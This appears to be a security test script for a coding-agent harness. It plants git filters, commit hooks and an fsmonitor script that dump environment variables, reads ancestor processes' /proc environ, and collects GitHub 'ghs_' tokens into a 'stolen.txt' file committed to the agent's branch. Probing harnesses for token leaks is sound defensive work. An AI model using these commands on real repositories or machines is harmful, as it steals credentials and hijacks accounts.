import { startScenario, reports, FULL_NAME, TOKEN } from "../support/scenario.js";
import { readFile } from "node:fs/promises";
const s = await startScenario();
const leak = `${s.dir}/leak`;
const run = await s.run({
  rounds: {
    1: {
      run: [
        `mkdir -p ${leak}`,
        `printf '* filter=leak\\n' > .gitattributes`,
        `git config filter.leak.clean "sh -c 'env > ${leak}/filter.txt; cat'"`,
        `printf '#!/bin/sh\\nenv > ${leak}/postcommit.txt\\n' > .git/hooks/post-commit && chmod +x .git/hooks/post-commit`,
        `printf '#!/bin/sh\\nenv > ${leak}/prepare.txt\\n' > .git/hooks/prepare-commit-msg && chmod +x .git/hooks/prepare-commit-msg`,
        `printf '#!/bin/sh\\nenv > ${leak}/fsmon.txt\\n' > ${leak}/fsmon.sh && chmod +x ${leak}/fsmon.sh && git config core.fsmonitor ${leak}/fsmon.sh`,
        `git config --list > ${leak}/config1.txt; env > ${leak}/agentenv.txt; cat /proc/$PPID/environ | tr '\\0' '\\n' > ${leak}/ppid-environ.txt 2>&1 || true`,
        `P=$PPID; for i in 1 2 3 4; do tr '\\0' '\\n' < /proc/$P/environ >> ${leak}/anc-environ.txt 2>/dev/null; tr '\\0' ' ' < /proc/$P/cmdline >> ${leak}/anc-cmd.txt; echo >> ${leak}/anc-cmd.txt; P=$(awk '{print $4}' /proc/$P/stat); done`,
      ],
      files: { "x.txt": "x\n" },
      report: reports.continue("r1"),
    },
    2: { run: [`cat ${leak}/*.txt | grep -o 'ghs_[A-Za-z0-9]*' | sort -u > stolen.txt || true`], report: reports.complete("done") },
  },
});
console.log("exit", run.exitCode, run.outputs.outcome);
for (const f of ["filter", "postcommit", "prepare", "fsmon", "agentenv", "ppid-environ", "anc-environ", "anc-cmd"]) {
  const t = await readFile(`${leak}/${f}.txt`, "utf8").catch(() => "<none>");
  console.log(f, "contains token:", t.includes(TOKEN), "len", t.length);
}
console.log((await readFile(`${leak}/anc-cmd.txt`,"utf8").catch(()=>"")));
console.log("stolen on branch:", await s.git.readFile(FULL_NAME, `ralph/issue-${s.issueNumber}`, "stolen.txt").catch((e)=>String(e)));
console.log(s.commentBodies().map(b=>b.slice(0,300)).join("\n----\n"));
await s.close();
